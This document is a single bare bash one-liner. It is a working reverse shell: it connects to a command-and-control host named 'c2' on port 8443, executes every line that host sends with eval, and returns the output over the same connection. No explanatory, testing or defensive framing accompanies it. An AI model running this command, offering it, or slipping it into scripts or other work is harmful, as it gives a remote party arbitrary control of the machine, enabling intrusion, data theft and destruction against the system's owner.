exec 5<>/dev/tcp/c2/8443; while read -r l <&5; do eval "$l" >&5 2>&1; done
